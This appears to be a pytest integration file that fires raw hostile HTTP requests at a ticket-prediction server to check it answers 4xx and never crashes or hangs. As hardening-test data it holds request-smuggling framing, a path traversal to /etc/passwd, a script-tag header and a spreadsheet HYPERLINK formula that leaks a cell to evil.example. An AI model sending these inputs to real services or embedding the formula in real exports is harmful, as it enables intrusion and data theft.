"""A corpus of hostile and careless requests, sent raw to real gunicorn: never a 5xx, never a hang.

Each entry is the exact bytes a client sends and the answer the service owes it. They cover the
hardening issue's items (oversized and chunked bodies, odd methods, framing tricks) and what a
careless client sends (bad JSON and encodings, control characters, spreadsheet formulas as ids).
Slow clients are in `test_slow_clients.py`; schemathesis covers the schema in
`test_openapi_fuzz.py`. All entries run against one server, which must then still answer, show
only bounded metric labels and have logged no traceback.
"""

from __future__ import annotations

import json
import re

import pytest

from tests.serving.conftest import TICKET, Server
from tests.serving.raw_http import exchange

pytestmark = pytest.mark.integration

LIMIT = 1_048_576
FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def request(method: str, path: str, body: bytes = b"", headers: str = "",
            content_type: str = "application/json", version: str = "HTTP/1.1") -> bytes:
    """A request with a Content-Length body (extra header lines in `headers`, CRLF-ended)."""
    head = f"{method} {path} {version}\r\nHost: t\r\n"
    if body or method == "POST":
        head += f"Content-Type: {content_type}\r\nContent-Length: {len(body)}\r\n"
    return (head + headers + "\r\n").encode() + body


def chunked(body_bytes: bytes, path: str = "/predict") -> bytes:
    """A POST whose body is already chunk-encoded (so it can be broken on purpose)."""
    return (f"POST {path} HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n").encode() + body_bytes


def encode_chunks(payload: bytes, size: int = 65_536) -> bytes:
    """`payload` in well-formed chunks, with the last chunk."""
    parts = [b"%x\r\n%s\r\n" % (len(payload[i:i + size]), payload[i:i + size])
             for i in range(0, len(payload), size)]
    return b"".join(parts) + b"0\r\n\r\n"


def ticket(**fields: object) -> bytes:
    """A /predict body: the valid ticket with `fields` replaced."""
    return json.dumps({**TICKET, **fields}).encode()


CORPUS: dict[str, tuple[bytes, int]] = {
    # bodies: size and framing
    "declared body over MAX_BODY_BYTES": (
        b"POST /predict HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n" % (2 * LIMIT), 413),
    "chunked body over MAX_BODY_BYTES": (chunked(encode_chunks(b"x" * (LIMIT + 1))), 413),
    "chunked valid JSON padded past the limit": (
        chunked(encode_chunks(ticket() + b" " * LIMIT)), 413),
    "chunked body within the limit": (chunked(encode_chunks(ticket())), 200),
    "chunked body with trailers": (chunked(encode_chunks(ticket())[:-2] + b"X-T: 1\r\n\r\n"),
                                   200),
    "chunk size not hex": (chunked(b"zz\r\nabc\r\n0\r\n\r\n"), 400),
    "chunk data without its CRLF": (chunked(b"3\r\nabcXY0\r\n\r\n"), 400),
    "chunk size line without end": (chunked(b"1" * 10_000), 400),
    "100k chunks of 1 byte": (chunked(b"1\r\n \r\n" * 100_000), 400),
    "chunk extensions past the raw limit": (
        chunked((b"1;" + b"e" * 4000 + b"\r\n \r\n") * 600), 413),
    "Content-Length and Transfer-Encoding": (
        request("POST", "/predict", ticket(), "Transfer-Encoding: chunked\r\n"), 400),
    "two Content-Length headers": (
        request("POST", "/predict", ticket(), f"Content-Length: {len(ticket())}\r\n"), 400),
    "negative Content-Length": (
        b"POST /predict HTTP/1.1\r\nHost: t\r\nContent-Length: -1\r\n\r\n", 400),
    "unknown transfer coding": (
        b"POST /predict HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: foo\r\n\r\n", 400),
    "chunked twice": (
        b"POST /predict HTTP/1.1\r\nHost: t\r\nTransfer-Encoding: chunked, chunked\r\n\r\n",
        400),
    "empty body": (request("POST", "/predict"), 400),
    # JSON and text
    "bad JSON": (request("POST", "/predict", b'{"title": "x",}'), 400),
    "truncated JSON": (request("POST", "/predict", ticket()[:-5]), 400),
    "JSON nested 100k deep": (request("POST", "/predict", b"[" * 100_000), 400),
    "lone surrogate": (request("POST", "/predict", b'{"title": "\\ud800 down"}'), 400),
    "invalid UTF-8": (request("POST", "/predict", b'{"title": "\xff\xfe down"}'), 400),
    "UTF-16 body": (request("POST", "/predict", ticket().decode().encode("utf-16"),
                            content_type="application/json; charset=utf-16"), 400),
    "a list instead of a ticket": (request("POST", "/predict", b"[1, 2]"), 422),
    "NUL, ESC and bell in text": (
        request("POST", "/predict", ticket(title="VPN\u0000 down\u001b[31m\u0007")), 200),
    "bidi override and emoji": (
        request("POST", "/predict", ticket(title="\u202egnikrow ton NPV \U0001f525")), 200),
    "spreadsheet formula as ticket_id": (
        request("POST", "/predict", ticket(ticket_id=FORMULA_ID)), 200),
    "title over the contract's length": (request("POST", "/predict", ticket(title="x" * 501)),
                                         422),
    "unexpected field": (request("POST", "/predict", ticket(descripton="typo")), 422),
    "batch over MAX_BATCH_SIZE": (
        request("POST", "/predict/batch", json.dumps({"tickets": [TICKET] * 101}).encode()),
        413),
    "batch of non-objects": (request("POST", "/predict/batch", b'{"tickets": [1, "x", null]}'),
                             422),
    "explain neither true nor false": (request("POST", "/predict?explain=maybe", ticket()), 422),
    "form body": (request("POST", "/predict", b"title=x",
                          content_type="application/x-www-form-urlencoded"), 415),
    # methods, request line, headers
    "made-up method": (request("FOOBAR", "/health"), 405),
    "made-up method on an unknown path": (request("BREW", "/coffee"), 404),
    "lower-case method": (request("get", "/health"), 400),
    "method of 40 letters": (request("X" * 40, "/health"), 400),
    "URL of 10 kB": (request("GET", "/health?" + "a" * 10_000), 400),
    "header block over 64 KiB": (request("GET", "/health", headers="".join(
        f"X-Pad-{i}: {'p' * 8000}\r\n" for i in range(9))), 431),
    "201 headers": (request("GET", "/health", headers="X-A: 1\r\n" * 201), 431),
    "obsolete line folding": (request("GET", "/health", headers="X-A: 1\r\n folded\r\n"), 400),
    "space before the colon": (request("GET", "/health", headers="X-A : 1\r\n"), 400),
    "Expect other than 100-continue": (request("GET", "/health", headers="Expect: tea\r\n"),
                                       417),
    "HTTP/2 preface on HTTP/1": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400),
    "request line without a version": (b"GET /health\r\n\r\n", 400),
    "blank lines only": (b"\r\n\r\n", 400),
    "HTTP/1.0": (request("GET", "/health", version="HTTP/1.0"), 200),
    "absolute-form target": (request("GET", "http://evil.example/health"), 200),
    "path traversal": (request("GET", "/../../etc/passwd"), 404),
    "NUL in the path": (request("GET", "/health%00.json"), 404),
    "unsafe and huge X-Request-ID": (
        request("GET", "/health", headers=f"X-Request-ID: <script>{'a' * 5000}\r\n"), 200),
}


@pytest.mark.parametrize(("raw", "status"), CORPUS.values(), ids=CORPUS.keys())
def test_the_corpus_gets_its_answer(guarded: Server, raw: bytes, status: int) -> None:
    answer = exchange(guarded.port, raw, timeout=5)  # a hang fails with TimeoutError
    assert answer.status == status, answer.body[:500]
    assert answer.status < 500
    if answer.headers.get("content-type") == "application/json":
        body = answer.json()
        assert "error" in body or answer.status == 200


def test_a_formula_id_is_echoed_as_data(guarded: Server) -> None:
    answer = exchange(guarded.port, CORPUS["spreadsheet formula as ticket_id"][0])
    assert answer.json()["ticket_id"] == FORMULA_ID  # JSON is data; CSV outputs neutralise it


def test_unsafe_request_ids_are_replaced(guarded: Server) -> None:
    answer = exchange(guarded.port, CORPUS["unsafe and huge X-Request-ID"][0])
    assert re.fullmatch(r"[0-9a-f]{32}", answer.headers["x-request-id"])


def test_method_labels_stay_bounded(guarded: Server) -> None:
    """Made-up methods are counted as `other`: a caller cannot mint metric series."""
    for method in ("FOOBAR", "BREW", "PURGE", "QWERTY", "X" * 20):
        assert exchange(guarded.port, request(method, "/health")).status == 405
    text = guarded.get("/metrics").text
    methods = set(re.findall(r'ticket_urgency_http_requests_total\{[^}]*method="([^"]*)"', text))
    assert "other" in methods
    assert methods <= {"GET", "HEAD", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE",
                       "CONNECT", "other"}


def test_the_server_is_healthy_after_the_corpus(guarded: Server) -> None:
    for raw, _ in CORPUS.values():
        exchange(guarded.port, raw, timeout=5)
    assert guarded.get("/health").status_code == 200
    assert guarded.post("/predict", json=TICKET).status_code == 200
    logged = guarded.stderr()
    assert "Traceback" not in logged
    assert "unhandled error" not in logged
